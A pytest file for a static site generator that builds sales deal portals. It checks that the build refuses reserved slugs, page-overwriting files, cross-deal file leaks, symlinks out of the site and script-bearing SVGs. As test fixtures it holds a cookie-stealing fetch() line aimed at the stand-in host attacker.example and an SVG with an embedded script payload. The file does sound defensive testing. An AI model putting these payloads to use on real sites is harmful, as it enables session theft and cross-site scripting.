"""A deal can never take the place of mapsite's own files, nor publish files that are not its own.

Every test builds a real site in a temporary folder with the real ``mapsite`` command (a child
process, as a rep would run it) and compares the bytes in ``output/`` before and after: a deal
slugged ``assets`` must not replace ``unlock.js``, a deal file named ``index.html`` must not
replace a portal, a single-file deal must not carry another deal's files, and a symlink must not
pull in files from outside the site. Refused builds leave the previous output byte for byte.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import subprocess
import sys
from pathlib import Path

import pytest

from mapsite.errors import MapsiteError
from tests.helpers import MINIMAL_DEAL, TODAY, SiteFactory, line_of

# A deal anyone may read: its files are published as they are, so their bytes can be looked for.
# Its people and steps share nothing with MINIMAL_DEAL, which the leak audit would rightly refuse.
PUBLIC_DEAL = """\
---
title: Harbor Freight x Northwind
buyer: {name: Harbor Freight, accent: "#0A66C2"}
close_date: 2027-05-28
updated: 2027-02-20
public: true
value_summary: Harbor Freight moves its field teams onto one schedule.
stakeholders:
  - {id: lead, name: Ines Okafor, title: Operations Lead, side: buyer, role: champion}
  - {id: rep, name: Theo Lindqvist, title: Account Executive, side: seller, role: account_executive}
milestones:
  - {phase: Pilot, id: kickoff, name: Pilot Kickoff, owners: [lead, rep], due: 2027-03-15}
  - {phase: Close, id: order, name: Order Form Countersigned, owners: [lead, rep], due: close, depends_on: [kickoff]}
---
The shared plan.
"""
ROI_MODEL = b"%PDF-1.4\n% Acme ROI model: 412 seats at $38, confidential\n"
EVIL_SCRIPT = b"fetch('https://attacker.example/?k='+document.cookie)\n"


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "mapsite", *args], capture_output=True, text=True, timeout=120
    )


def check(site: Path) -> subprocess.CompletedProcess:
    return run("check", "--site", str(site), "--today", TODAY)


def build(site: Path, *extra: str) -> subprocess.CompletedProcess:
    return run("build", "--site", str(site), "--today", TODAY, *extra)


def tree(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` with the digest of its bytes."""
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def contents(folder: Path) -> list[bytes]:
    return [p.read_bytes() for p in folder.rglob("*") if p.is_file()]


def built_site(site_factory: SiteFactory) -> tuple[Path, dict[str, str]]:
    """A site with one protected deal, built once: its output has the unlock script."""
    root = site_factory.make()
    result = build(root)
    assert result.returncode == 0, result.stderr
    before = tree(root / "output")
    assert any(path.startswith("assets/unlock.") for path in before)
    return root, before


def unlock_script(out: Path) -> Path:
    (script,) = (out / "assets").glob("unlock.*.js")
    return script


# Finding 6: a deal named like mapsite's own paths


@pytest.mark.parametrize("how", ["folder name", "slug line"])
def test_a_deal_slugged_assets_never_touches_the_shared_assets(site_factory, how):
    root, before = built_site(site_factory)
    unlock = unlock_script(root / "output")
    unlock_bytes = unlock.read_bytes()
    deals = root / "content/deals"
    if how == "folder name":
        folder, text = deals / "assets", MINIMAL_DEAL
        display, line = "content/deals/assets/index.md", None
    else:
        folder, text = deals / "rollout", MINIMAL_DEAL.replace("title:", "slug: assets\ntitle:", 1)
        display, line = "content/deals/rollout/index.md", line_of(text, "slug: assets")
    folder.mkdir()
    (folder / "index.md").write_text(text, "utf-8")
    # The deal's own "unlock script", at the very path the shared one is published under (a
    # protected deal may carry a script: it is sealed, never served as one).
    (folder / unlock.name).write_bytes(EVIL_SCRIPT)

    checked = check(root)
    assert checked.returncode == 1
    where = f"{display}:{line}" if line else display
    assert f"{where}: error: " in checked.stdout
    message = next(row for row in checked.stdout.splitlines() if row.startswith(f"{where}: error: "))
    assert "'assets'" in message and "reserved" in message and "hint: " in message
    for extra in ((), ("--only", "assets"), ("--only", folder.name)):
        result = build(root, *extra)
        assert result.returncode == 1, (extra, result.stdout)
        assert f"{where}: error: " in result.stderr
        assert "Traceback" not in result.stderr
        assert unlock.read_bytes() == unlock_bytes
        assert tree(root / "output") == before


@pytest.mark.parametrize("slug", ["assets", "index", "404", "cname"])
def test_every_name_mapsite_publishes_at_the_root_is_reserved(site_factory, slug):
    text = MINIMAL_DEAL.replace("title:", f"slug: {slug}\ntitle:", 1)
    root = site_factory.make({"buyer-co.md": text})
    result = check(root)
    assert result.returncode == 1
    assert (
        f"content/deals/buyer-co.md:{line_of(text, 'slug:')}: error: slug '{slug}' is reserved"
        in result.stdout
    )
    assert "choose another slug" in result.stdout


def test_a_single_file_deal_named_index_md_is_reserved_and_attaches_nothing(site_factory):
    root = site_factory.make({"index.md": PUBLIC_DEAL, "acme/index.md": MINIMAL_DEAL})
    (root / "content/deals/acme/roi-model.pdf").write_bytes(ROI_MODEL)
    result = check(root)
    assert result.returncode == 1
    assert (
        "content/deals/index.md: error: the file name gives the slug 'index', which is reserved"
        in result.stdout
    )

    # With a slug of its own, it is an ordinary single-file deal: no other deal's file or page.
    overview = PUBLIC_DEAL.replace("title:", "slug: overview\ntitle:", 1)
    (root / "content/deals/index.md").write_text(overview, "utf-8")
    (root / "content/deals/bluebird.md").write_text(MINIMAL_DEAL.replace("Buyer Co", "Bluebird"), "utf-8")
    result = build(root)
    assert result.returncode == 0, result.stderr
    published = sorted(
        p.relative_to(root / "output/overview").as_posix() for p in (root / "output/overview").rglob("*")
    )
    assert not [p for p in published if p.startswith(("acme", "bluebird"))], published
    assert ROI_MODEL not in contents(root / "output")


# The output guard, should validation ever let such a slug through


def test_the_build_refuses_to_write_a_deal_into_a_shared_path(site_factory, monkeypatch):
    from mapsite.pipeline.build import build as build_site
    from mapsite.validate import deal as validate

    root, before = built_site(site_factory)
    folder = root / "content/deals/assets"
    folder.mkdir()
    (folder / "index.md").write_text(MINIMAL_DEAL, "utf-8")
    monkeypatch.setattr(validate, "reserved_slug", lambda _slug: False, raising=False)
    monkeypatch.setenv("MAPSITE_WORKERS", "1")
    today = dt.date.fromisoformat(TODAY)
    for only in ("assets", None):
        with pytest.raises(MapsiteError) as raised:
            build_site(root, today=today, only=only)
        assert "output/assets/" in raised.value.message and "mapsite's own" in raised.value.message
        assert tree(root / "output") == before


# A deal's files never replace its own pages


@pytest.mark.parametrize("name", ["index.html", "INDEX.HTML", "calendar/plan.ics", "_files/x.bin"])
def test_a_deal_file_cannot_replace_a_page_of_the_deal(site_factory, name):
    # A protected deal: its .html attachments are allowed (sealed as downloads), so only the
    # collision with the portal's own page can refuse this one.
    root = site_factory.make({"buyer-co/index.md": MINIMAL_DEAL})
    assert build(root).returncode == 0
    before = tree(root / "output")
    hostile = root / "content/deals/buyer-co" / name
    hostile.parent.mkdir(parents=True, exist_ok=True)
    hostile.write_bytes(b"<script>" + EVIL_SCRIPT + b"</script>")

    result = check(root)
    assert result.returncode == 1
    expected = (
        f"content/deals/buyer-co/{name}: error: this file would be published at {name} in the deal's folder"
    )
    assert expected in result.stdout
    result = build(root)
    assert result.returncode == 1 and expected in result.stderr
    assert tree(root / "output") == before


# A single-file deal publishes its own files only


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("resources:\n  - {title: ROI model, file: acme/files/roi-model.pdf}\n", id="resources"),
        pytest.param("partner: {name: Initech, logo: acme/files/roi-model.pdf}\n", id="logo"),
        pytest.param("body: [the ROI model](acme/files/roi-model.pdf)", id="link"),
        pytest.param("body: ![plan](acme/index.md)", id="image"),
        pytest.param("body: [draft](_drafts/roi-model.pdf)", id="draft"),
    ],
)
def test_a_single_file_deal_publishes_no_file_of_another_deal(site_factory, text):
    root = site_factory.make({"acme/index.md": MINIMAL_DEAL, "bluebird.md": PUBLIC_DEAL})
    (root / "content/deals/acme/files").mkdir()
    (root / "content/deals/acme/files/roi-model.pdf").write_bytes(ROI_MODEL)
    (root / "content/deals/_drafts").mkdir()
    (root / "content/deals/_drafts/roi-model.pdf").write_bytes(ROI_MODEL)
    assert build(root).returncode == 0
    before = tree(root / "output")
    deal = root / "content/deals/bluebird.md"
    if text.startswith("body: "):
        body = text.removeprefix("body: ")
        written = PUBLIC_DEAL.replace("The shared plan.", f"The shared plan, with {body}.")
        needle = body
    else:
        written = PUBLIC_DEAL.replace("value_summary:", f"{text}value_summary:", 1)
        needle = "roi-model.pdf"
    deal.write_text(written, "utf-8")

    result = check(root)
    assert result.returncode == 1, result.stdout
    assert f"content/deals/bluebird.md:{line_of(written, needle)}: error: " in result.stdout
    assert "another deal" in result.stdout or "not a file of this deal" in result.stdout
    result = build(root)
    assert result.returncode == 1
    assert tree(root / "output") == before
    assert ROI_MODEL not in contents(root / "output")
    assert MINIMAL_DEAL.encode() not in contents(root / "output")


def test_a_single_file_deal_still_publishes_files_of_its_own(site_factory):
    written = PUBLIC_DEAL.replace(
        "value_summary:", "partner: {name: Initech, logo: logos/initech.svg}\nvalue_summary:", 1
    )
    written = written.replace("The shared plan.", "The shared plan, with [the brief](bluebird-brief.pdf).")
    root = site_factory.make({"bluebird.md": written, "acme/index.md": MINIMAL_DEAL})
    (root / "content/deals/logos").mkdir()
    (root / "content/deals/logos/initech.svg").write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg"/>')
    (root / "content/deals/bluebird-brief.pdf").write_bytes(b"%PDF-1.4\n% brief\n")
    result = build(root)
    assert result.returncode == 0, result.stderr
    assert (root / "output/bluebird/bluebird-brief.pdf").read_bytes() == b"%PDF-1.4\n% brief\n"
    assert (root / "output/bluebird/logos/initech.svg").is_file()


# Symlinks are never followed out of the site


@pytest.mark.parametrize("kind", ["deal folder", "deal file", "folder in a deal", "file in a deal"])
def test_a_symlink_out_of_the_site_is_refused(site_factory, tmp_path, kind):
    root = site_factory.make({"buyer-co/index.md": PUBLIC_DEAL})
    assert build(root).returncode == 0
    before = tree(root / "output")
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "index.md").write_text(PUBLIC_DEAL.replace("Harbor Freight", "Outsider"), "utf-8")
    (outside / "roi-model.pdf").write_bytes(ROI_MODEL)
    deals = root / "content/deals"
    link = {
        "deal folder": deals / "outsider",
        "deal file": deals / "outsider.md",
        "folder in a deal": deals / "buyer-co/files",
        "file in a deal": deals / "buyer-co/roi-model.pdf",
    }[kind]
    target = {"deal file": outside / "index.md", "file in a deal": outside / "roi-model.pdf"}.get(
        kind, outside
    )
    link.symlink_to(target)
    display = link.relative_to(root).as_posix()

    result = check(root)
    assert result.returncode == 1
    assert f"{display}: error: " in result.stdout and "link" in result.stdout
    # --force: a full build whose sources read the same stops early as up to date, and the
    # digest of the sources does not look into a linked folder (nor is anything published then).
    for extra in (("--force",), ("--only", "outsider")):
        result = build(root, *extra)
        assert result.returncode == 1
        assert "Traceback" not in result.stderr
        assert tree(root / "output") == before
        assert ROI_MODEL not in contents(root / "output")


def test_files_a_single_file_deal_shows_in_its_markdown_are_checked_like_its_others(site_factory):
    # A file the Markdown names is published with the deal, so it must pass every check a
    # deal's files do: here, an SVG that would run script on the portal's site.
    written = PUBLIC_DEAL.replace("The shared plan.", "The shared plan.\n\n![Rollout](rollout.svg)")
    root = site_factory.make({"harbor.md": written})
    hostile = b'<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(document.domain)</script>\n</svg>\n'
    (root / "content/deals/rollout.svg").write_bytes(hostile)
    result = check(root)
    assert result.returncode == 1
    assert "content/deals/rollout.svg:2: error: " in result.stdout
    result = build(root)
    assert result.returncode == 1
    assert not (root / "output").exists()
